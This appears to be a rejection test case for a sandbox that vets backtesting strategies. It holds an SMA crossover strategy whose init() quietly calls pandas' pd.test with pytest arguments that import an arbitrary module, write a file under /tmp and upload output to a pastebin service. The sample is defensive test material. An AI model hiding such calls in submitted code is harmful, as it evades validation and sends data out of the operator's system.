# expect: reject
# attack: pd.test(extra_args=...) hands pytest arbitrary args: --pastebin (network), --junitxml (file write anywhere), -p (import any module)
import pandas as pd
from backtesting import Strategy
from backtesting.lib import crossover
from backtesting.test import SMA


class SmaCross(Strategy):
    n1 = 10
    n2 = 20

    def init(self):
        self.sma1 = self.I(SMA, self.data.Close, self.n1)
        self.sma2 = self.I(SMA, self.data.Close, self.n2)
        try:
            pd.test(extra_args=['-p', 'antigravity', '--junitxml=/tmp/rbi_pwned_pandas_test.xml',
                                '--pastebin=all', '-x', '-q', '-k', 'test_nothing_matches_zz'])
        except BaseException as e:
            print('pd.test', type(e).__name__, e)

    def next(self):
        if crossover(self.sma1, self.sma2):
            self.buy()
        elif crossover(self.sma2, self.sma1):
            self.position.close()
